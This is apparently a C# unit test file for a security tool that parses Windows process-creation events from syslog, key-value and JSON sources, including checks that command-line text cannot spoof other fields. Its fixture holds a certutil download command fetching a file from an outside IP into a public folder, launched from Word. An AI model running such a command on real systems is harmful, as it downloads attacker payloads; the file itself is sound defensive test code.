using System.Diagnostics;
using System.Text;
using System.Text.Json.Nodes;
using Changeling.Events;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Events;

/// <summary>Windows events as text: lines over syslog, rendered messages, values by position.</summary>
public class TextEventTests
{
    private const string Golden = @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt";

    private static readonly string Snare = GoldenLaunch.Messages["snare"].TrimEnd();

    private static readonly string KeyValue = GoldenLaunch.Messages["key-value"].TrimEnd();

    [Fact]
    public void A_syslog_daemon_may_write_tabs_by_their_code() =>
        Assert.Equal(Reading.Event(Snare), Reading.Event(Snare.Replace("\t", "#011", StringComparison.Ordinal)));

    [Fact]
    public void Lines_of_text_and_lines_of_JSON_may_stand_in_one_message() =>
        Assert.Equal(
            "read read not_json read",
            Reading.Words(Reading.All($"{Snare}\n{KeyValue}\nhello\n{GoldenLaunch.Messages["vector"].ReplaceLineEndings(" ")}")));

    [Fact]
    public void A_line_that_cannot_be_read_is_kept_as_it_came()
    {
        var line = KeyValue.Replace("Hostname=", "Host=", StringComparison.Ordinal);

        var dead = Reading.Unreadable(line);

        Assert.Equal((DeadLetterReasons.MissingField, SourceFormats.KeyValue), (dead.Reason, dead.Format));
        Assert.Equal(line, Encoding.UTF8.GetString(dead.Body.Bytes.Span));
    }

    [Fact]
    public void Words_of_an_event_inside_broken_JSON_make_no_event() =>
        Assert.Equal(
            "not_json",
            Reading.Words(Reading.All(
                "{\"CommandLine\":\"x EventID=1 SourceName=Microsoft-Windows-Sysmon Hostname=h UtcTime=2026 Image=a.exe\"")));

    [Theory]
    [InlineData("Nov  3 09:14:28 ws-0417 EventID=7036 SourceName=\"Service Control Manager\" Hostname=ws-0417", "skipped")]
    [InlineData("Nov  3 09:14:28 ws-0417 MSWinEventLog\t1\tSystem", "not_json")]
    public void Other_events_are_skipped_and_other_lines_are_dead(string line, string word) =>
        Assert.Equal(word, Reading.Words(Reading.All(line)));

    [Theory]
    [InlineData("cmd /c echo Process Command Line: x  New Process Name: C:\\a.exe  Creator Process Name: C:\\b.exe")]
    [InlineData("cmd /c echo Token Elevation Type indicates nothing  Target Subject: Account Name: eve")]
    public void A_command_line_cannot_name_other_fields_of_a_rendered_4688(string command)
    {
        var read = Reading.Event(Snare.Replace(Golden, command, StringComparison.Ordinal));

        Assert.Equal((command, "certutil.exe", "winword.exe"), (read.Child.CommandLine, read.Child.Name, read.Parent?.Name));
        Assert.Equal("mara.lind", read.User?.Name);
    }

    [Theory]
    [InlineData("cmd /c echo Image: C:\\a.exe\nParentImage: C:\\b.exe\nUser: CORP\\eve")]
    [InlineData("cmd /c echo CommandLine: x ParentCommandLine: y")]
    public void A_command_line_cannot_name_other_fields_of_a_rendered_Sysmon_event(string command)
    {
        var message = JsonNode.Parse(GoldenLaunch.Messages["get-winevent.message"])!;
        message["Message"] = message["Message"]!.GetValue<string>().Replace(Golden, command, StringComparison.Ordinal);

        var read = Reading.Event(message.ToJsonString());

        Assert.Equal((command, "certutil.exe", "winword.exe"), (read.Child.CommandLine, read.Child.Name, read.Parent?.Name));
        Assert.Equal("mara.lind", read.User?.Name);
    }

    [Fact]
    public void Reading_a_message_full_of_labels_takes_linear_time()
    {
        var ofShort = Ticks(1 << 16);
        var ofLong = Ticks(1 << 19);

        Assert.InRange(ofLong, 0, 40 * ofShort);
    }

    [Fact]
    public void A_label_may_be_rendered_by_its_name()
    {
        var read = Reading.Event(Snare.Replace("S-1-16-8192", @"Mandatory Label\High Mandatory Level", StringComparison.Ordinal));

        Assert.Equal(IntegrityLevel.High, read.Child.Integrity);
    }

    [Fact]
    public void A_quoted_value_may_hold_quotes_separators_and_names()
    {
        var read = Reading.Event(KeyValue.Replace(
            Golden.Replace(@"\", @"\\", StringComparison.Ordinal),
            """cmd /c \"echo a\", Image=C:\\b.exe; x=1""",
            StringComparison.Ordinal));

        Assert.Equal(("""cmd /c "echo a", Image=C:\b.exe; x=1""", "certutil.exe"), (read.Child.CommandLine, read.Child.Name));
    }

    [Fact]
    public void Values_without_escapes_are_read_as_they_are()
    {
        var read = Reading.Event(
            """EventID=4688 SourceName=Microsoft-Windows-Security-Auditing Hostname=h EventTime="2026-11-03 09:14:27" """
            + """NewProcessName="C:\a b\c.exe" CurrentDirectory="C:\a b\" NewProcessId=0x188c""");

        Assert.Equal((@"C:\a b\c.exe", 6284u), (read.Child.Path, read.Child.Pid));
    }

    [Fact]
    public void A_user_may_be_named_by_digits()
    {
        var launch = JsonNode.Parse(GoldenLaunch.Messages["get-winevent"])!;
        launch["Properties"]![1]!["Value"] = "4711";

        Assert.Equal("4711", Reading.Event(launch.ToJsonString()).User?.Name);
    }

    [Fact]
    public void Windows_PowerShell_may_write_a_list_as_an_object()
    {
        var launch = JsonNode.Parse(GoldenLaunch.Messages["get-winevent"])!;
        launch["Properties"] = new JsonObject { ["value"] = launch["Properties"]!.DeepClone(), ["Count"] = 15 };

        Assert.Equal(Reading.Event(GoldenLaunch.Messages["get-winevent"]), Reading.Event(launch.ToJsonString()));
    }

    [Fact]
    public void Properties_of_another_number_are_not_guessed()
    {
        var launch = JsonNode.Parse(GoldenLaunch.Messages["get-winevent"])!;
        launch["Properties"]!.AsArray().RemoveAt(0);

        Assert.Equal(DeadLetterReasons.PositionsShifted, Reading.Unreadable(launch.ToJsonString()).Reason);
    }

    [Fact]
    public void Hayabusa_abbreviates_a_4688_otherwise_than_Sysmon()
    {
        var read = Reading.Event("""
            {"Timestamp":"2026-11-03 09:14:27.384 +00:00","RuleTitle":"Proc Exec","Computer":"ws-0417","Channel":"Sec","EventID":4688,
             "RecordID":7,
             "Details":{"Cmdline":"certutil.exe -x","Proc":"C:\\Windows\\System32\\certutil.exe","PID":"0x188c","User":"mara.lind"},
             "ExtraFieldInfo":{"ParentProcessName":"C:\\a\\winword.exe","ProcessId":"0x23a0","SubjectDomainName":"CORP"}}
            """);

        Assert.Equal(
            ("certutil.exe", 6284u, "mara.lind", "winword.exe", 9120u),
            (read.Child.Name, read.Child.Pid, read.User?.Name, read.Parent?.Name, read.Parent?.Pid));
        Assert.Equal("security-4688|ws-0417|security|7|2026-11-03 09:14:27.384 +00:00", read.SourceIdentity);
    }

    [Fact]
    public void LogScale_s_parents_are_found_in_the_message_too()
    {
        var child = JsonNode.Parse(GoldenLaunch.Messages["crowdstrike-fdr.logscale"])!;
        var parent = child.DeepClone();
        parent["TargetProcessId"] = child["ParentProcessId"]!.GetValue<string>();
        parent["ImageFileName"] = @"\Device\HarddiskVolume3\Office\WINWORD.EXE";

        var outcomes = Reading.All($"[{parent.ToJsonString()},{child.ToJsonString()}]");

        Assert.Equal(@"\Device\HarddiskVolume3\Office\WINWORD.EXE", Assert.IsType<RecordOutcome.Read>(outcomes[1]).Event.Parent?.Path);
    }

    private static long Ticks(int labels)
    {
        var text = string.Concat(Enumerable.Repeat("User: CommandLine: Image: Process Command Line: ", labels / 48));
        var body = Reading.Bytes(Snare.Replace(Golden, text.Trim(), StringComparison.Ordinal));
        Reading.All(body);
        return Enumerable.Range(0, 5).Min(_ =>
        {
            var before = Stopwatch.GetTimestamp();
            Assert.Equal("read", Reading.Words(Reading.All(body)));
            return Stopwatch.GetElapsedTime(before).Ticks;
        });
    }
}
